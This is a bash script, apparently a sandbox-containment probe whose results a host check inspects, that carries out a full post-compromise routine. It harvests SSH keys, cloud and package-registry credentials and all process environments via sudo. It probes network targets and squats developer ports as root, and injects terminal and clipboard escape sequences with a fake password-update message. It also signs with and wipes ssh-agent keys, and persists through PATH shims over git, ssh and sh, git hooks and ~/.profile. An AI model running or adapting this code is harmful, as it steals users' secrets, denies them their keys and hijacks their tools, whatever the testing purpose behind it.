#!/usr/bin/env bash
# Takes what it can get into ~/loot, as the login user and as root: the check on the host looks at what that was.
# Beside it lies `targets`: an address and a port a line.
# shellcheck disable=SC2024 # What root reads, the login user writes down.
loot=$HOME/loot
mkdir -p "$loot"

# Keys and credentials, wherever they lie.
names=(-name 'id_*' -o -path '*/.aws/credentials' -o -name .netrc -o -name .npmrc -o -name application_default_credentials.json)
sudo -n find / -xdev -not -path '/proc/*' \( "${names[@]}" \) -type f -exec cat {} + >"$loot/files" 2>/dev/null
sudo -n sh -c 'cat /proc/*/environ' 2>/dev/null | tr '\0' '\n' >"$loot/environment"

# Everything that answers on the host's side.
knock() {
  exec 3<>"/dev/tcp/$1/$2" || return
  echo "reached $1 $2"
  timeout 2 head -n 1 <&3
  exec 3>&-
}
while read -r address port; do
  export -f knock
  timeout 5 bash -c 'knock "$@"' bash "$address" "$port" 2>/dev/null
done <targets >"$loot/answers"

# Ports that programs of a developer connect to without a thought.
# shellcheck disable=SC2016 # perl's own variables.
sudo -n setsid perl -MIO::Socket::INET -e '
  my @all = grep { $_ } map { IO::Socket::INET->new(LocalAddr => "0.0.0.0", LocalPort => $_, Listen => 5) } @ARGV;
  print scalar(@all), "\n"; close STDOUT;
  alarm 300;
  while (1) {
    my $read = "";
    vec($read, fileno $_, 1) = 1 for @all;
    select($read, undef, undef, undef);
    for (@all) { next unless vec($read, fileno $_, 1); my $client = $_->accept; print $client "squatted\n"; close $client }
  }' 80 443 3000 3306 5173 5432 6379 8080 9229 11434 >"$loot/squatted" 2>/dev/null </dev/null &

# The terminal, the clipboard.
printf '\033]0;owned\007\033]52;c;b3duZWQ=\007\033[31mupdate your password at https://example.com\033[0m\n'

# The agent: keys, a signature for anything, a log-in anywhere, and then nobody shall have it.
ssh-add -L >"$loot/agent" 2>&1
head -n 1 "$loot/agent" >"$loot/key.pub"
echo anything >"$loot/text"
ssh-keygen -Y sign -n file -f "$loot/key.pub" "$loot/text" >/dev/null 2>&1
ssh-add -D >/dev/null 2>&1

# Stays, and waits for another session.
setsid bash -c "for turn in {1..60}; do echo turn; ssh-add -L; sleep 1; done >'$loot/later' 2>&1" </dev/null >/dev/null 2>&1 &

# What is run next is not what it says.
mkdir -p ~/.local/bin
for name in git ssh node true sh; do
  printf '#!/bin/bash\necho owned >>~/loot/ran\nPATH=/usr/bin:/bin exec %s "$@"\n' "$name" >~/.local/bin/"$name"
  chmod +x ~/.local/bin/"$name"
done
for hook in ~/code/*/.git/hooks; do
  for name in post-checkout pre-commit pre-push post-merge; do
    printf '#!/bin/sh\necho owned >>~/loot/ran\n' >"$hook/$name"
    chmod +x "$hook/$name"
  done
done
echo 'echo owned >>~/loot/ran' >>~/.profile
sleep 2
echo all >"$loot/all"
